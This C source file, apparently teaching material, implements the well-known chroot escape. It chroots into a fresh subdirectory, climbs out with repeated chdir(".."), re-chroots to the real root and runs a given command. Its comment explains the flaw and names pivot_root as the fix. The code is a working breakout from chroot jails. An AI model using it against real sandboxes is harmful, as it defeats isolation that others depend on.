/*
 * chroot.c COMMAND [ARG...]: leave a chroot, and run COMMAND outside.
 *
 * chroot moves the root directory and not the current directory.  So after a second
 * chroot, into a directory below, the current directory is above the root directory,
 * and nothing stops "..".  This needs CAP_SYS_CHROOT.  What closes it: pivot_root
 * (section 13), after which there is nothing above.
 */
#define _GNU_SOURCE
#include <err.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 2)
		errx(1, "usage: %s COMMAND [ARG...]", argv[0]);
	if (chdir("/") < 0 || mkdir("tmp/below", 0700) < 0)
		err(1, "/tmp/below");
	if (chroot("tmp/below") < 0) {
		warn("chroot");
		return rmdir("tmp/below") < 0 ? 2 : 1;
	}
	rmdir("tmp/below");		/* it is still our root */
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			err(1, "chdir");
	if (chroot(".") < 0)
		err(1, "chroot");
	execvp(argv[1], argv + 1);
	err(1, "%s", argv[1]);
}
